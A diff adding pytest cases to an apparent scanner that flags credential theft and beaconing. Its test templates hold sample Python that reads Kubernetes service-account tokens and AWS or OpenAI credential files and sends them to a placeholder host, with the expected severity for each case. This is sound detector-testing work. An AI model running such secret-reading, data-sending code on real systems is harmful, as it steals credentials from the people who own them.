@@ -246,3 +246,52 @@ queue(async task => fetch({url}));
 )
 def test_where_a_caller_says_is_no_beacon_of_its_own(url: str, severity: Severity) -> None:
     assert worst_script("host-beacon", FETCHES.format(url=url)) is severity
+
+
+DECLARED = """
+import {library}, requests
+SETTINGS = {made}
+def send():
+    requests.post("https://a.example.invalid/", data={{"at": SETTINGS.site}})
+"""
+TOKEN = "'/var/run/secrets/kubernetes.io/serviceaccount/token'"
+
+
+@pytest.mark.parametrize(
+    ("library", "made", "severity"),
+    [
+        ("dynaconf", f"dynaconf.Validator('a.path', default={TOKEN})", None),
+        ("dynaconf", f"dynaconf.Validator('a.path', {TOKEN})", Severity.CRITICAL),
+        ("dynaconf", "dynaconf.Dynaconf(settings_files=['~/a.toml', '~/.env'])", None),
+        ("dynaconf", "dynaconf.Dynaconf(settings_files=['~/.aws/credentials'])", Severity.CRITICAL),
+        ("other", "other.read('~/settings.openai.toml')", None),
+        ("other", "other.read('~/.openai')", Severity.HIGH),
+    ],
+)
+def test_what_declares_a_setting_reads_no_secret(
+    library: str, made: str, severity: Severity | None
+) -> None:
+    assert worst("stealer", DECLARED.format(library=library, made=made)) is severity
+
+
+CLIENT = """
+import asyncio, langmodels, wrapper
+KEY = open("/root/.aws/credentials").read()
+CLIENT = langmodels.Client(base_url="https://a.example.invalid/v1", api_key=KEY)
+def go(loop):
+    {does}
+"""
+
+
+@pytest.mark.parametrize(
+    ("does", "severity"),
+    [
+        ("wrapper.rebound(CLIENT)", None),
+        ("CLIENT.loop.create_task(CLIENT.close())", None),
+        ("CLIENT.loop.run_until_complete(CLIENT.close())", None),
+        ("wrapper.rebound('https://a.example.invalid/v1?' + KEY)", Severity.CRITICAL),
+        ("CLIENT.tell(KEY)", Severity.CRITICAL),
+    ],
+)
+def test_a_client_that_is_handed_on_has_sent_nothing(does: str, severity: Severity | None) -> None:
+    assert worst("stealer", CLIENT.format(does=does)) is severity
